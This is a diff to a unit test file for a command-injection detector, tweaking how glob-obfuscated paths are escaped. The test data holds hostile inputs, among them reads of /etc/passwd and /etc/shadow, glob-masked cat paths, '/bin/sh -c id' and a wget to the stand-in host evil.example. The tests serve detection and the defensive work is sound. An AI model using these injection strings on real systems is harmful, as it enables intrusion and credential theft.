@@ -20,7 +20,7 @@ TEST_CASE("a value that runs a command in a command line is told") {
            "a\r\ncat /etc/passwd",
            ";sudo -n cat /etc/shadow",
            "; A=b env",
-           ";/???/c?t /etc/hosts",
+           ";/b?n/c?t /etc/hosts",
            ";{wget,http://evil.example/x}",
            "/bin/sh -c id",
            "cat /etc/passwd",
@@ -86,7 +86,7 @@ TEST_CASE("commands are known by their words, whatever their case, ending or ver
 }
 
 TEST_CASE("a path with gaps is told when a program or file of attacks fits into it") {
-  CHECK(is_telling_glob("/???/c?t"));
+  CHECK(is_telling_glob("/\?\?\?/c?t"));
   CHECK(is_telling_glob("/bin/ca?"));
   CHECK(is_telling_glob("/etc/pa[s]swd"));
   CHECK_FALSE(is_telling_glob("/api/*/users"));
